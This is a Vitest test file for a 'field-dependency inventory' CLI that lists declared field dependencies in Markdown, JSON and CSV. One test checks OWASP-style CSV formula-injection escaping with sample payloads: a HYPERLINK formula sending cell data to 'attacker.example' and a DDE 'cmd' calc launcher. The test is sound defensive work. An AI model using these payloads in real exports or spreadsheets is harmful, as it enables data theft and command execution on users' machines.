import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { PROCESS_TEST_TIMEOUT, REPO_ROOT } from '../enforcement/support/paths.js';
import { runCliProcess } from '../enforcement/support/runCheckCli.js';
import { runCliInProcess } from '../support/runCliInProcess.js';
import { BASIC_TSCONFIG, temporaryProjects } from '../enforcement/support/temporaryProjects.js';

const PROJECT = path.join(REPO_ROOT, 'test/fixtures/inventory/project');
const projects = temporaryProjects();
afterAll(() => projects.removeAll());

/** What the fixture declares, sorted by owner then field (case-insensitively), unknown owners last. */
const ROWS: readonly (readonly [field: string | null, owner: string | null, critical: boolean | null, tier: number | null, type: string, flagKey: string | false | null, location: string])[] = [
  ['batchUsers', 'accounts', false, 2, '[null]', 'field-dependency.accounts.batchUsers', 'src/wrapped.ts:5'], // anonymous function: named after its holder
  ['loadTeams', 'accounts', false, 2, '[null]', 'field-dependency.accounts.loadTeams', 'src/wrapped.ts:10'], // a reference: the function's name
  ['orgs, by id', 'accounts', false, 2, '[null]', false, 'src/wrapped.ts:12'], // the `name` option; `decider: false`
  ['the "best" motto', 'accounts', false, 2, 'String', 'field-dependency.accounts.the "best" motto', 'src/wrapped.ts:18'],
  ['boards', 'boards', false, 2, '[Object]', 'field-dependency.boards.boards', 'src/fields.ts:31'], // a decorator constant imported from another file
  ['commentCounts', 'comments', false, 2, '[null]', 'field-dependency.comments.commentCounts', 'src/fields.ts:21'], // through a namespace import
  ['images', 'images', true, 1, 'Array', 'field-dependency.images.images', 'src/fields.ts:16'],
  ['pin-rows', 'pins', false, 2, '[null]', 'field-dependency.pins.pin-rows', 'src/fields.ts:26'], // an aliased import, in a local decorator constant
  ['suggestions', 'search', true, 1, '[null]', 'search.suggestions.kill-switch', 'src/fields.ts:36'], // options (and the decider's key) from a constant
  ['shopping', 'shopping', false, 2, 'Map', 'field-dependency.shopping.shopping', 'src/fields.ts:11'],
  ['counted', null, null, null, 'Number', null, 'src/wrapped.ts:25'], // options spread from elsewhere
  [null, null, false, 2, 'Set', null, 'src/wrapped.ts:22'], // the owner is a parameter
];

describe('field-dependency inventory', { timeout: PROCESS_TEST_TIMEOUT }, () => {
  it('prints a Markdown table by default, sorted by owner then field, `?` for what only the running code knows', async () => {
    const run = await runCliProcess(['inventory'], PROJECT);
    const cell = (value: string | boolean | null): string => (value === null ? '?' : value === true ? 'yes' : value === false ? 'no' : value);
    const flagCell = (value: string | false | null): string => (value === null ? '?' : value === false ? 'none' : value);

    expect(run.status).toBe(0);
    expect(run.stderr).toBe('');
    expect(run.stdout).toBe(
      [
        '| field | owner | critical | tier | type | flag key | location |',
        '|---|---|---|---|---|---|---|',
        ...ROWS.map(([field, owner, critical, tier, type, flagKey, location]) => `| ${[cell(field), cell(owner), cell(critical), tier === null ? '?' : String(tier), type, flagCell(flagKey), location].join(' | ')} |`),
        '',
        '12 field dependencies (2 critical), 7 owners; 2 with an owner known only at run time.',
        '',
      ].join('\n'),
    );
  });

  it('--format json: every field, null for what only the running code knows', async () => {
    const run = await runCliInProcess(['inventory', '--format', 'json', '-p', PROJECT], REPO_ROOT);

    expect(run.status).toBe(0);
    expect(JSON.parse(run.stdout)).toEqual({
      tsconfig: 'test/fixtures/inventory/project/tsconfig.json',
      fieldDependencies: ROWS.map(([field, owner, critical, tier, type, flagKey, location]) => ({
        field,
        owner,
        critical,
        tier,
        type,
        flagKey,
        file: `test/fixtures/inventory/project/${location.split(':')[0] ?? ''}`,
        line: Number(location.split(':')[1]),
      })),
    });
  });

  it('--format csv: RFC 4180, commas and quotes quoted, empty for what only the running code knows', async () => {
    const run = await runCliInProcess(['inventory', '--format', 'csv'], PROJECT);

    expect(run.status).toBe(0);
    expect(run.stdout.split('\r\n')).toEqual([
      'field,owner,critical,tier,type,flag_key,file,line',
      'batchUsers,accounts,false,2,[null],field-dependency.accounts.batchUsers,src/wrapped.ts,5',
      'loadTeams,accounts,false,2,[null],field-dependency.accounts.loadTeams,src/wrapped.ts,10',
      '"orgs, by id",accounts,false,2,[null],false,src/wrapped.ts,12',
      '"the ""best"" motto",accounts,false,2,String,"field-dependency.accounts.the ""best"" motto",src/wrapped.ts,18',
      'boards,boards,false,2,[Object],field-dependency.boards.boards,src/fields.ts,31',
      'commentCounts,comments,false,2,[null],field-dependency.comments.commentCounts,src/fields.ts,21',
      'images,images,true,1,Array,field-dependency.images.images,src/fields.ts,16',
      'pin-rows,pins,false,2,[null],field-dependency.pins.pin-rows,src/fields.ts,26',
      'suggestions,search,true,1,[null],search.suggestions.kill-switch,src/fields.ts,36',
      'shopping,shopping,false,2,Map,field-dependency.shopping.shopping,src/fields.ts,11',
      'counted,,,,Number,,src/wrapped.ts,25',
      ',,false,2,Set,,src/wrapped.ts,22',
      '',
    ]);
  });

  it('--format csv: a value a spreadsheet would run as a formula is written as text (OWASP: a leading quote, the cell quoted)', async () => {
    const names = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\tpadded', '\rreturned', 'plain-name'];
    const project = projects.create({
      'tsconfig.json': JSON.stringify({
        compilerOptions: { ...(JSON.parse(BASIC_TSCONFIG) as { compilerOptions: object }).compilerOptions, paths: { 'field-dependency': [path.join(REPO_ROOT, 'src/index.ts')] } },
        include: ['src'],
      }),
      'src/fields.ts': [
        "import { fieldDependency } from 'field-dependency';",
        ...names.map((name, index) => `export const field${index} = fieldDependency(String, { owner: 'sheets', name: ${JSON.stringify(name)} })((id: string) => id);`),
        '',
      ].join('\n'),
    });
    const run = await runCliInProcess(['inventory', '--format', 'csv'], project);

    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    const flagKey = (name: string): string => `field-dependency.sheets.${name}`;
    expect(run.stdout.split('\r\n').slice(1, -1).sort()).toEqual(
      [
        `"'=HYPERLINK(""http://attacker.example/?""&A1,""open"")",sheets,false,2,String,"${flagKey('=HYPERLINK(""http://attacker.example/?""&A1,""open"")')}",src/fields.ts,2`,
        `"'+cmd|' /C calc'!A0",sheets,false,2,String,${flagKey("+cmd|' /C calc'!A0")},src/fields.ts,3`,
        `"'@SUM(1+1)",sheets,false,2,String,${flagKey('@SUM(1+1)')},src/fields.ts,4`,
        `"'-2+3",sheets,false,2,String,${flagKey('-2+3')},src/fields.ts,5`,
        `"'\tpadded",sheets,false,2,String,${flagKey('\tpadded')},src/fields.ts,6`,
        `"'\rreturned",sheets,false,2,String,"${flagKey('\rreturned')}",src/fields.ts,7`,
        `plain-name,sheets,false,2,String,${flagKey('plain-name')},src/fields.ts,8`,
      ].sort(),
    );
  });

  it('shows each dependency\'s tier: as stated, else 1 when critical and 2 when not; tier 0 or 1 alone makes it critical', async () => {
    const declarations: readonly (readonly [name: string, options: string, critical: string, tier: string])[] = [
      ['defaulted', '', 'false', '2'],
      ['criticalDefault', ', critical: true', 'true', '1'],
      ['prefetch', ', tier: 3', 'false', '3'],
      ['optionalTier2', ', critical: false, tier: 2', 'false', '2'],
      ['siteDown', ', tier: 0', 'true', '0'],
      ['viaConstant', ', tier: LOWEST', 'false', '3'],
      ['atRunTime', ', tier: pickTier()', '', ''], // `critical` depends on it too
      ['refused', ', tier: 7', '', ''], // the runtime refuses it: shown as unknown, not guessed
      ['statedCritical', ', critical: true, tier: pickTier()', 'true', ''],
    ];
    const project = projects.create({
      'tsconfig.json': JSON.stringify({
        compilerOptions: { ...(JSON.parse(BASIC_TSCONFIG) as { compilerOptions: object }).compilerOptions, paths: { 'field-dependency': [path.join(REPO_ROOT, 'src/index.ts')] } },
        include: ['src'],
      }),
      'src/fields.ts': [
        "import { fieldDependency } from 'field-dependency';",
        'const LOWEST = 3;',
        'declare function pickTier(): 0 | 1 | 2 | 3;',
        ...declarations.map(([name, options]) => `export const ${name} = fieldDependency(String, { owner: 'tiers', name: '${name}'${options} } as never)((id: string) => id);`),
        '',
      ].join('\n'),
    });
    const run = await runCliInProcess(['inventory', '--format', 'csv'], project);

    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    const byField = new Map(run.stdout.split('\r\n').slice(1, -1).map((record) => [record.split(',')[0], record.split(',').slice(2, 4)]));
    for (const [name, , critical, tier] of declarations) expect([name, byField.get(name)]).toEqual([name, [critical, tier]]);

    const markdown = await runCliInProcess(['inventory'], project);
    expect(markdown.stdout).toContain('| siteDown | tiers | yes | 0 | String | field-dependency.tiers.siteDown | src/fields.ts:');
    expect(markdown.stdout).toContain('| atRunTime | tiers | ? | ? | String |');
    expect(markdown.stdout).toContain('9 field dependencies (3 critical)'); // criticalDefault, siteDown, statedCritical
  });

  it('lists nothing for a project without field dependencies', async () => {
    const run = await runCliInProcess(['inventory'], projects.create({ 'tsconfig.json': BASIC_TSCONFIG, 'src/a.ts': 'export const a = 1;\n' }));

    expect(run.status).toBe(0);
    expect(run.stdout).toBe('| field | owner | critical | tier | type | flag key | location |\n|---|---|---|---|---|---|---|\n\n0 field dependencies (0 critical), 0 owners.\n');
  });

  it('prints its usage with --help', async () => {
    const run = await runCliInProcess(['inventory', '--help'], PROJECT);

    expect(run.status).toBe(0);
    expect(run.stdout).toMatch(/^Usage: field-dependency inventory \[-p tsconfig\.json\] \[--format md\|json\|csv\]/);
  });

  it.each([
    { case: 'a missing tsconfig', args: ['-p', 'nowhere/tsconfig.json'], files: {}, message: /^field-dependency: tsconfig not found: nowhere\/tsconfig\.json\n$/ },
    { case: 'a tsconfig that is not JSON', args: [], files: { 'tsconfig.json': '{ "compilerOptions": ' }, message: /tsconfig\.json is not a valid tsconfig/ },
    { case: 'a tsconfig with an unknown option', args: [], files: { 'tsconfig.json': '{ "compilerOptions": { "strictest": true } }' }, message: /Unknown compiler option 'strictest'/ },
    { case: 'an unknown format', args: ['--format', 'xlsx'], files: { 'tsconfig.json': BASIC_TSCONFIG }, message: /unknown --format 'xlsx'; expected one of: md, json, csv\n$/ },
    { case: 'an unknown flag', args: ['--owner', 'x'], files: { 'tsconfig.json': BASIC_TSCONFIG }, message: /Unknown option '--owner'/ },
  ])('exits 2 on $case', async ({ args, files, message }) => {
    const run = await runCliInProcess(['inventory', ...args], projects.create({ 'src/a.ts': 'export const a = 1;\n', ...files }));

    expect(run.status).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toMatch(message);
  });
});
